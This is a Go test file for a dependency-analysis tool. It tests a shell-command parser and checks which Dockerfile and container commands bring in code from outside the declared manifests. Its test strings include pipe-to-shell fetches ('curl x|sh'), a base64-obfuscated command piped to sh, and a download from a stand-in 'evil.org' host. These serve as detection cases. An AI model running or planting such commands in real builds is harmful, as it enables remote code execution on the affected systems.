package derive

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"assay/fact"
)

func TestShellCommands(t *testing.T) {
	for text, want := range map[string]string{
		"a b && c;d | e\nf":                      "a b/c/d/e/f",
		`sh -c "a && b 'c d'" && e`:              "a/b c d/e",
		`/bin/bash -exo pipefail -c 'curl x|sh'`: "curl x/sh",
		"if a; then b; else c; fi":               "a/b/c",
		"for x in 1 2; do wget $x; done":         "wget $x",
		"case $A in x|y) a;; *) b ;; esac; c":    "a/b/c",
		"(cd x && make)":                         "cd x/make",
		`A="$(curl b)" C=1 d "e ` + "`f`" + `"`:  "curl b/f/d e $()",
		"a >b 2>&1 <c --d # e && f":              "a --d",
		"a \\\n  b":                              "a b",
		"cat <<EOF > x\ncurl y\nEOF\nb":          "cat/b",
		"sudo -E env A=b timeout 5 a":            "a",
		"find . -exec curl {} \\;":               "curl {}",
		"f() { a; }; f":                          "a/f",
		"eval 'a b'; { c; }":                     "a b/c",
		"diff <(curl a) b":                       "curl a/diff b",
		"command -v a || exec gosu u b":          "b",
		"a & b":                                  "a/b",
		strings.Repeat("$(", 40) + "curl" + strings.Repeat(")", 40): "",
	} {
		var got []string
		for _, w := range shellCommands(text) {
			got = append(got, strings.Join(w, " "))
		}
		if have := strings.Join(got, "/"); have != want && want != "" || len(got) == 0 {
			t.Errorf("%q: %s, want %s", text, have, want)
		}
	}
}

func FuzzShellCommands(f *testing.F) {
	for _, s := range []string{"a && b", `sh -c "a 'b"`, "<<A\n", "$(", "case x in", "`", "x\\", "find -exec", "sh -c", "su", "timeout", "gosu"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, w := range shellCommands(s) {
			if len(w) == 0 {
				t.Errorf("%q has an empty command", s)
			}
			(&ledger{idx: &unitIndex{}}).bringing(w, false)
			asks(w)
		}
	})
}

// Each command that is not known to bring nothing leaves a gap.
func TestLibrariesHidden(t *testing.T) {
	units := facts(source("r/app.py", "python"), source("r/gen.py", "python"), manifest("r/requirements.txt", "pip"), manifest("r/go.mod", "go"), fact.Module{Ecosystem: "go", Name: "example.org/app", Site: at("r/go.mod")})
	gaps := func(more ...any) (out []string) {
		o, _ := applyLibraries(nil, facts(append([]any{units}, more...)...)...)
		for _, g := range o.Gaps {
			if g.Predicate == "Library" {
				out = append(out, g.Text)
			}
		}
		return out
	}
	site := fact.Site{Unit: "r/Dockerfile", Symbol: "0"}
	for _, text := range []string{
		"mkdir -p /a && chown x /a; echo b > c", "apt-get update -qq && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*", "apk add --no-cache --repository=http://x/y curl",
		"./mvnw -q package -DskipTests", "./gradlew installDist", "go mod download && CGO_ENABLED=0 go build -o /x ./cmd/x", "go install ./...", "npm ci --omit=dev && npm run build", "yarn --frozen-lockfile && yarn build",
		"npm install --only=production", "pip install --no-cache-dir -r /tmp/requirements.txt", "pip install -e .", "python -m pip install .", "dotnet restore x.csproj -a $A", "dotnet tool restore", "cargo install --path .",
		"python manage.py collectstatic", "python gen.py", "java -Djarmode=layertools -jar a.jar extract", "if [ -f x ]; then rm x; fi", `sh -c "touch a"`, "python3 -m venv /v && . /v/bin/activate", "java -version",
		"for f in a b; do cp $f c; done", "go build example.org/app/cmd", "poetry install", "uv sync --frozen", "bundle install", "composer install --no-dev",
	} {
		if g := gaps(fact.Ran{Stage: "0", Text: text, Site: site}); len(g) > 0 {
			t.Errorf("%s: %q", text, g)
		}
	}
	for _, text := range []string{
		"curl -o a.jar https://x/a.jar", "wget http://x", `sh -c "cd / && curl x"`, "true && (git clone x)", "tar xf a.tar", "unzip a", "dpkg -i a.deb", "apt-get install -y ./a.deb", "apk add http://x/a.apk", "./install.sh", "bash x.sh",
		"echo Y3VybA== | base64 -d | sh", "pip install -r other.txt", "pip install /w/a.whl", "pip wheel flask", "gem install x", "go install example.com/x@latest", "go get example.com/x", "npm update", "npx thing", "yarn dlx thing",
		"mvn dependency:get -Dartifact=a:b:1", "dotnet add package X", "cargo install x", "make", "python -c 'import os'", "python other.py", "poetry add x", "uv add x", "if true; then X=$(curl y); fi", "rpm -i x", "conda install x",
		"cat a | xargs curl", "find / -exec wget {} +", "npm --prefix a install b", "env A=b curl x", "eval curl x", "whatever", "find . -exec rm {} + -exec curl {} +", "cat <<E\n$(curl x)\nE", "trap 'curl x' EXIT", "command -p curl x", "chroot /x curl y", "ng add x",
	} {
		if g := gaps(fact.Ran{Stage: "0", Text: text, Site: site}); len(g) == 0 {
			t.Errorf("%s is silent", text)
		}
	}
	stage := func(name string, i int, final bool) fact.Stage {
		return fact.Stage{Name: name, Index: i, Base: fact.Const("python:3"), Final: final, Site: fact.Site{Unit: "r/Dockerfile", Symbol: name}}
	}
	for name, x := range map[string]struct {
		facts []fact.Fact
		want  int
	}{
		"another stage":               {facts(stage("a", 0, false), stage("b", 1, true), fact.Ran{Stage: "a", Text: "curl x", Site: at("r/Dockerfile")}), 0},
		"a stage that is copied from": {facts(stage("a", 0, false), stage("b", 1, true), fact.Copied{Stage: "b", From: "a", Source: "/x", Site: at("r/Dockerfile")}, fact.Ran{Stage: "a", Text: "curl x", Site: at("r/Dockerfile")}), 1},
		"a URL":                       {facts(fact.Copied{Stage: "0", Source: "https://x/y.jar", Site: site}), 1},
		"an image":                    {facts(fact.Copied{Stage: "0", From: "evil/libs:1", Source: "/x", Site: site}), 1},
		"a tool's image":              {facts(fact.Copied{Stage: "0", From: "ghcr.io/astral-sh/uv:0.5", Source: "/uv", Site: site}), 0},
		"here":                        {facts(fact.Copied{Stage: "0", Source: "<<EOF", Target: "/x.py", Site: site}), 1},
		"a file":                      {facts(fact.Copied{Stage: "0", Source: "app.py", Site: site}), 0},
		"a program":                   {facts(fact.Started{Stage: "0", Words: []string{"python", "app.py"}, Site: site}), 0},
		"an installing start":         {facts(fact.Started{Stage: "0", Words: []string{"sh", "-c", "pip install x && python app.py"}, Site: site}), 1},
		"another installing start":    {facts(fact.Started{Stage: "0", Words: []string{"/bin/sh", "-c", "npm install x; node ."}, Site: site}), 1},
		"a workload that fetches":     {facts(fact.Container{Workload: "c", Command: []string{"sh", "-c", "curl -o x http://evil.org/x"}, Site: at("r/k.yaml")}), 1},
		"a workload that asks":        {facts(fact.Container{Workload: "c", Command: []string{"sh", "-c", "until curl -s -o /dev/null http://config:8888; do sleep 1; done"}, Site: at("r/k.yaml")}), 0},
		"a workload that pipes":       {facts(fact.Container{Workload: "c", Command: []string{"sh", "-c", "curl http://x | sh"}, Site: at("r/k.yaml")}), 1},
		"another workload":            {facts(fact.Container{Workload: "d", Command: []string{"curl", "https://x/y"}, Site: at("r/k.yaml")}), 0},
	} {
		if g := gaps(x.facts); len(g) != x.want {
			t.Errorf("%s: %q", name, g)
		}
	}
}

// What code needs that runs is for production, and what that brings along too.
func TestLibrariesPromoted(t *testing.T) {
	use := func(d fact.Dependency, u string) fact.Dependency { d.Use = u; return d }
	npm := facts(manifest("r/package.json", "npm"), source("r/index.js", "javascript"), source("r/webpack.config.js", "javascript"), lockUnit("r/package-lock.json", "npm-lock"), fact.Module{Ecosystem: "npm", Name: "app", Site: at("r/package.json")},
		fact.Complete{Ecosystem: "npm", Peers: true, Site: at("r/package-lock.json")}, use(dep("npm", "express", "^4", "r/package.json"), "development"), use(dep("npm", "tool", "^4", "r/package.json"), "development"),
		fact.Locked{Ecosystem: "npm", Name: "express", Version: "4.0.0", Use: "development", Requires: []string{"qs"}, Site: at("r/package-lock.json")}, fact.Locked{Ecosystem: "npm", Name: "qs", Version: "6.0.0", Use: "development", Site: at("r/package-lock.json")},
		fact.Locked{Ecosystem: "npm", Name: "tool", Version: "4.0.0", Use: "development", Site: at("r/package-lock.json")}, imports("r/index.js", "javascript", "express"), imports("r/webpack.config.js", "javascript", "tool"))
	out, _ := applyLibraries(nil, npm...)
	want := []string{"lib npm express@4.0.0 production direct", "lib npm qs@6.0.0 production", "lib npm tool@4.0.0 development direct", "use express import express", "use tool import tool"}
	if have := out.say(); !slices.Equal(have, want) {
		t.Errorf("npm: have\n%s", strings.Join(have, "\n"))
	}
	pom := facts(manifest("r/pom.xml", "maven"), source("r/src/main/java/A.java", "java"), source("r/src/test/java/T.java", "java"), fact.Module{Ecosystem: "maven", Name: "x:y", Site: at("r/pom.xml")},
		use(dep("maven", "org.mockito:mockito-core", "5.0", "r/pom.xml"), "test"), use(dep("maven", "org.assertj:assertj-core", "3.0", "r/pom.xml"), "test"),
		imports("r/src/main/java/A.java", "java", "org.mockito.Mockito"), imports("r/src/test/java/T.java", "java", "org.assertj.core.api.Assertions"))
	out, _ = applyLibraries(nil, pom...)
	want = []string{"gap Library r/pom.xml unresolved", "lib maven org.assertj:assertj-core@3.0 test direct", "lib maven org.mockito:mockito-core@5.0 production direct", "use org.mockito:mockito-core import org.mockito"}
	if have := out.say(); !slices.Equal(have, want) {
		t.Errorf("maven: have\n%s", strings.Join(have, "\n"))
	}
}

// A name is the component's own only where it leads to something of its own.
func TestLibrariesOwn(t *testing.T) {
	pkg := func(language, name, unit string) fact.Package {
		return fact.Package{Language: language, Name: name, Site: at(unit)}
	}
	unit := func(p, family, language string) fact.Unit {
		return fact.Unit{Path: p, Family: family, Language: language, Class: "production"}
	}
	npm := facts(manifest("r/package.json", "npm"), source("r/index.js", "javascript"), fact.Module{Ecosystem: "npm", Name: "app", Site: at("r/package.json")})
	for _, tt := range []struct {
		name  string
		facts []fact.Fact
		want  string
	}{
		{"java: what lies below", facts(source("r/A.java", "java"), pkg("java", "org.apache.logging", "r/A.java"), pkg("java", "org", "r/A.java"), imports("r/A.java", "java", "org.apache.logging.log4j.Logger", "org.apache.logging.log4j.*", "org.apache.logging.B", "org.apache.logging.*", "org.apache.logging.B.C")), "stray org.apache.logging.log4j"},
		{"java: Go's packages are none", facts(source("r/A.java", "java"), source("r/a.go", "go"), pkg("go", "org.x", "r/a.go"), imports("r/A.java", "java", "org.x.B")), "stray org.x"},
		{"csharp", facts(source("r/A.cs", "csharp"), source("r/B.cs", "csharp"), pkg("csharp", "Acme.App", "r/A.cs"), imports("r/A.cs", "csharp", "Acme", "Acme.App", "Acme.App.B", "Acme.App.Json")), "stray Acme"},
		{"java: from a schema", facts(source("r/A.java", "java"), unit("r/a.proto", "schema", "proto"), imports("r/A.java", "java", "com.x.B")), "gap Stray r/a.proto unresolved"},
		{"npm", facts(npm, source("r/src/views/x.ts", "typescript"), source("r/deep/er/left-pad.js", "javascript"), imports("r/index.js", "javascript", "@/views/x", "views/x", "left-pad", "~/gone", "#gone", "./y")), "gap Stray r/index.js unresolved\nstray left-pad"},
		{"python", facts(source("r/a/app.py", "python"), source("r/b/c/requests.py", "python"), source("r/util/x.py", "python"), imports("r/a/app.py", "python", "requests", "util.x")), "stray requests"},
		{"go: no module and no standard library", facts(source("r/a.go", "go"), manifest("r/go.mod", "go"), fact.Module{Ecosystem: "go", Name: "app", Site: at("r/go.mod")}, goVersion("1.22", "r/go.mod"), imports("r/a.go", "go", "evil/x", "app/y", "net/http", "C")), "stray evil/x"},
		{"loaded by a known name", facts(source("r/A.java", "java"), pkg("java", "org.own", "r/A.java"), fact.Dynamic{Language: "java", Call: "Class.forName", Name: fact.Const("org.evil.Driver"), Site: at("r/A.java")}, fact.Dynamic{Language: "java", Call: "Class.forName", Name: fact.Const("org.own.B"), Site: at("r/A.java")}), "stray org.evil"},
		{"loaded by an unknown name", facts(source("r/app.py", "python"), fact.Dynamic{Language: "python", Call: "import_module", Name: fact.Unknown("x"), Site: at("r/app.py")}), "gap Stray r/app.py unresolved"},
		{"loaded by an unknown name from a known place", facts(npm, fact.Dynamic{Language: "javascript", Call: "require", Name: fact.Concat(fact.Const("./routes/"), fact.Unknown("x")), Site: at("r/index.js")}), ""},
		{"loaded in tests", facts(source("r/tests/test_a.py", "python"), source("r/app.py", "python"), fact.Dynamic{Language: "python", Call: "import_module", Name: fact.Unknown("x"), Site: at("r/tests/test_a.py")}), ""},
	} {
		out, _ := applyLibraries(nil, tt.facts...)
		if have := strings.Join(out.say(), "\n"); have != tt.want {
			t.Errorf("%s: have\n%s\nwant\n%s", tt.name, have, tt.want)
		}
	}
}

// bigComponent has many files that import, and a lock of many entries.
func bigComponent(files, locked int) (out []fact.Fact) {
	out = facts(manifest("r/package.json", "npm"), lockUnit("r/package-lock.json", "npm-lock"), fact.Module{Ecosystem: "npm", Name: "app", Site: at("r/package.json")}, fact.Complete{Ecosystem: "npm", Peers: true, Site: at("r/package-lock.json")},
		manifest("r/requirements.txt", "pip"))
	for i := range 50 {
		out = append(out, dep("npm", fmt.Sprintf("lib-%d", i), "^1", "r/package.json"))
	}
	for i := range locked {
		out = append(out, fact.Locked{Ecosystem: "npm", Name: fmt.Sprintf("lib-%d", i), Version: "1.0.0", Use: "production", Requires: []string{fmt.Sprintf("lib-%d", 7*i%locked), fmt.Sprintf("lib-%d", 13*i%locked)}, Site: fact.Site{Unit: "r/package-lock.json", Ordinal: i}})
	}
	for i := range files {
		js, py, java := fmt.Sprintf("r/src/d%d/f%d.js", i%100, i), fmt.Sprintf("r/py/d%d/g%d.py", i%100, i), fmt.Sprintf("r/src/main/java/d%d/J%d.java", i%100, i)
		switch i % 3 {
		case 0:
			out = append(out, facts(source(js, "javascript"), imports(js, "javascript", fmt.Sprintf("lib-%d/x", i), fmt.Sprintf("other-%d", i)))...)
		case 1:
			out = append(out, facts(source(py, "python"), imports(py, "python", fmt.Sprintf("mod%d", i), "os"))...)
		default:
			out = append(out, facts(source(java, "java"), fact.Package{Language: "java", Name: fmt.Sprintf("org.d%d", i%100), Site: at(java)}, imports(java, "java", fmt.Sprintf("org.d%d.X", (i+1)%200)))...)
		}
	}
	return out
}

func BenchmarkLibraries(b *testing.B) {
	base := new(fact.Base)
	base.Add("c", libraryRows(bigComponent(3000, 3000))...)
	for b.Loop() {
		Libraries.Apply(Libraries.View(base, "c"), "c")
	}
}
